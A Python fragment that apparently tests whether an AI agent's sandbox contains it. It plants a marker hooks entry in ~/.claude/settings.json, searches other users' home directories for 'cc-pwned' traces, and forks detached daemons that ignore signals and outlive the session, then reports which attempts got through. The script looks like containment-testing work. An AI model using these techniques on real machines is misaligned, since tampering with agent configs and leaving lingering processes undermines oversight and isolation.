        (home / ".claude").mkdir(exist_ok=True)
        (home / ".claude" / "settings.json").write_text('{"hooks": "' + T["settings_mark"] + '"}')
    except OSError:
        pass


@attempt("find settings that an agent of another project left")
def settings_left() -> str | None:
    home = os.environ.get("HOME", "/nonexistent")
    for path in (f"{home}/.claude/settings.json", f"{home}/.gitconfig", *glob.glob("/home/*/.claude/*")):
        if T["settings_mark"] in (read_bytes(path) or b"").decode(errors="replace") or "cc-pwned" in (read_bytes(path) or b"").decode(errors="replace"):
            return path
    return refused("none")


def leave_processes() -> None:
    """Two that flee: a daemon with a session of its own, and one that ignores every signal; test_attack.py looks for them."""
    for ignore in (False, True):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                words = f"import signal, time\nfor n in range(1, 30 if {ignore} else 1):\n    try: signal.signal(n, signal.SIG_IGN)\n    except Exception: pass\ntime.sleep(300)"
                null = os.open("/dev/null", os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.execv(sys.executable, [T["left_name"], "-c", words])
            os._exit(0)
        os.wait()


class TooLong(Exception):
    pass


def too_long(number: int, frame: object) -> None:
    raise TooLong


def judge(name: str, f: Attempt) -> None:
    refusals.clear()
    signal.alarm(30)
    try:
        through = f()
    except TooLong:
        through = "it goes on and on"
    except Exception as e:  # an attempt that breaks has not got through; the test counts them
        through = None
        refused(f"{type(e).__name__}: {e}")
    signal.alarm(0)
    print(json.dumps({"attempt": name, "through": through, "refused": ", ".join(dict.fromkeys(refusals))[:200]}), flush=True)


def main() -> None:
    signal.signal(signal.SIGALRM, too_long)
    words = " ".join(sys.argv[1:])
    if "only the settings" in words:
        judge("find settings that an agent of another project left", settings_left)
        return
    if "only the traps" in words:
        plant_traps("unborn" in words)
        return
    last = tuple(f"system call {name}" for name in LAST)
    for name, f in ATTEMPTS.items():
        if not name.startswith(last):
            judge(name, f)
    plant_traps()
    leave_processes()
    for name, f in ATTEMPTS.items():
        if name.startswith(last):
            judge(name, f)
    print(json.dumps({"end": len(ATTEMPTS)}), flush=True)


main()
